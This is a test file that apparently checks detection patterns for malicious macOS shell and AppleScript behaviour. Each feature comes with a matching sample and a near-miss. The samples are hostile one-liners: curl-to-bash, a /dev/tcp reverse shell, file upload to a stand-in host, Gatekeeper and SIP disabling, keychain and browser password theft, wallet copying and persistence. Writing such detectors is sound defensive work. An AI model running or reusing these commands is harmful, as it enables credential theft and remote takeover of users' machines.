import { deepEqual, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { FEATURE_RULES } from '../../src/scripts/features.ts'

/** Each feature with words that show it and words that come near and do not. */
const EXAMPLES: Readonly<Record<string, readonly [shows: string, misses: string]>> = {
  download_and_run: ['curl -fsSL https://a.example/x | bash', 'curl -o x https://a.example/x'],
  run_downloaded: ['/bin/bash -c "$(curl -fsSL https://a.example)"', 'bash -c "$(date)"'],
  download: ['wget -q http://a.example/x', 'curl --version'],
  decode_and_run: ['echo aGk= | base64 -D | sh', 'echo aGk= | base64 -D > out'],
  evaluates_hidden: ['eval "$(echo x | base64 -d)"', 'eval "$(brew shellenv)"'],
  decrypts: ['openssl enc -aes-256-cbc -d -k x', 'openssl enc -aes-256-cbc -k x'],
  asks_for_password: [
    'display dialog "x" default answer "" with hidden answer',
    'display dialog "Done"',
  ],
  tests_password: ['dscl /Local/Default -authonly "$USER" "$pw"', 'dscl . -list /Users'],
  sudo_with_password: ['echo "$pw" | sudo -S rm x', 'sudo rm x'],
  removes_quarantine: ['xattr -d com.apple.quarantine x', 'xattr -p com.apple.quarantine x'],
  disables_gatekeeper: ['spctl --master-disable', 'spctl --status'],
  disables_protection: ['csrutil disable', 'csrutil status'],
  resets_privacy: ['tccutil reset All', 'tccutil'],
  launch_item: ['cp a ~/Library/LaunchAgents/a.plist', 'ls ~/Library/Logs'],
  login_item: ['make login item at end with properties {}', 'make new folder'],
  shell_profile: ['echo x >> ~/.zshrc', 'cat ~/.zshrc'],
  cron: ['(crontab -l; echo x) | crontab -', 'man cron'],
  keychain: ['security find-generic-password -wa Chrome', 'security help'],
  browser_data: ['cp "Google/Chrome/Default/Login Data" x', 'open -a "Google Chrome"'],
  wallet_data: ['cp -r "Exodus/exodus.wallet" x', 'book of exodus'],
  messages_data: ['cp NoteStore.sqlite x', 'open Notes.app'],
  uploads: ['curl -F file=@x https://a.example', 'curl https://a.example'],
  archives_data: ['ditto -c -k --sequesterRsrc a b.zip', 'ditto a b'],
  reverse_shell: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'bash -l'],
  injects_library: ['DYLD_INSERT_LIBRARIES=x.dylib app', 'DYLD_PRINT_ENV=1 app'],
  runs_from_temporary: ['chmod +x /tmp/x', 'chmod 644 /tmp/x'],
  hides_files: ['mkdir ~/.updater', 'ls -a'],
  hides_window: ['tell application "Terminal" to set visible of window 1 to false', 'killall Dock'],
  background: ['nohup ./x', 'sleep 1'],
  removes_itself: ['rm -f "$0"', 'rm -f "$1"'],
  removes_traces: ['rm ~/.zsh_history', 'history 5'],
  looks_around: ['system_profiler SPHardwareDataType', 'uname'],
  looks_for_virtual_machine: ['ioreg | grep VMware', 'memory'],
  changes_language_check: ['defaults read -g AppleLocale', 'locale'],
  captures_screen: ['screencapture -x a.png', 'screen -r'],
  reads_clipboard: ['pbpaste', 'pbcopy'],
  keystrokes: ['keystroke "a"', 'a stroke of keys'],
  runs_shell: ['do shell script "ls"', 'shell script'],
  account: ['dscl . -create /Users/x', 'dscl . -read /Users/x'],
  profile: ['profiles install -path x', 'profiles list'],
  proxy: ['networksetup -setwebproxy Wi-Fi a 80', 'networksetup -listallnetworkservices'],
}

test('features: every rule has an example, and every example its rule', () => {
  deepEqual(
    FEATURE_RULES.map(({ feature }) => feature).toSorted(),
    Object.keys(EXAMPLES).toSorted(),
  )
})

for (const { feature, pattern } of FEATURE_RULES) {
  test(`features: ${feature} shows and is not seen where it only comes near`, () => {
    const [shows = '', misses = ''] = EXAMPLES[feature] ?? []
    ok(shows.match(pattern) !== null, shows)
    deepEqual(misses.match(pattern), null)
  })
}
